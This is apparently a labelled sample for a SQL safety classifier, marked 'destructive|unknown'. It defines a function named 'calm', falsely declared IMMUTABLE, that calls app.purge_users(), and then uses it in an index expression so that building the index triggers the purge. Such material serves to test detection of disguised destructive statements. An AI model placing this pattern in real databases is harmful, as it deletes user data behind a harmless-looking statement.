-- class: destructive|unknown
-- an index expression, the same way
CREATE FUNCTION app.calm(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM app.purge_users(); RETURN 1; END $$;
CREATE INDEX ON public.big_counts (app.calm(n));
